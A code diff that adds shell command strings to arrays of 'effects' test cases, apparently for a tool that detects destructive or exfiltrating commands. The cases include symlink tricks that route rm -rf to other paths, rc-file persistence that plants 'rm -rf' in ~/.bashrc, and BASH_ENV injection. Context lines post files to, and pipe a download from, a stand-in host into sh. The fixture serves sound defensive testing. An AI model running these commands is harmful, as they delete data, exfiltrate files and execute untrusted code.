@@ -152,6 +152,15 @@ export const effects = [
   'wget -q -O- --post-file="$%v" http://two.example/',
   'wget -q -P empty http://one.example/f',
   'curl -s http://two.example/ | sh',
+  'ln -s . "$%v".k; rm -rf "$%v".k/%p',
+  'd=$(mktemp -d); ln -s "$PWD" "$d"/k; rm -rf "$d"/k/%p',
+  'ln -s "$PWD" k$$; cat k$$/%p',
+  'ln -s sub k; mv k q; rm -f q/c.txt',
+  'mkdir made; ln -s ../sub made/k; cp -a made q; rm -f q/k/*',
+  'ln -s ../sub empty/k; find -L empty -type f -delete',
+  'ln -s a.txt k; rm k; ln -s list k; xargs rm -rf < k',
+  'set -P; ln -s empty k; cd k; cd ..; rm -rf %p',
+  'cd sub; set -P; rm -f ../%p',
 ]; // prettier-ignore
 
 /** The same, in bash alone. */
@@ -194,6 +203,10 @@ export const bashEffects = [
   'mapfile -t k < list; rm -rf "${k[@]}"',
   'select i in %p %p; do rm -rf "$i"; break; done <<< 1 2>/dev/null',
   'builtin source list 2>/dev/null; rm -rf "$%v"',
+  'echo "rm -rf %p" > ~/.bashrc; bash -ic : 2>/dev/null',
+  'echo "rm -rf %p" >> ~/.profile; bash -l -c :',
+  'echo "alias k=rm" > ~/.bashrc; bash -ic "k %p" 2>/dev/null',
+  "echo 'k() { rm -rf \"$@\"; }' > e.sh; BASH_ENV=e.sh bash -c 'k %p'",
 ]; // prettier-ignore
 
 export const bashEffect = /\$\{l\[|\$\{!|\$'|\{a,b\}|\{.*,.*\}|\/a\/b|\$\{m\[|\$\{r\}/;
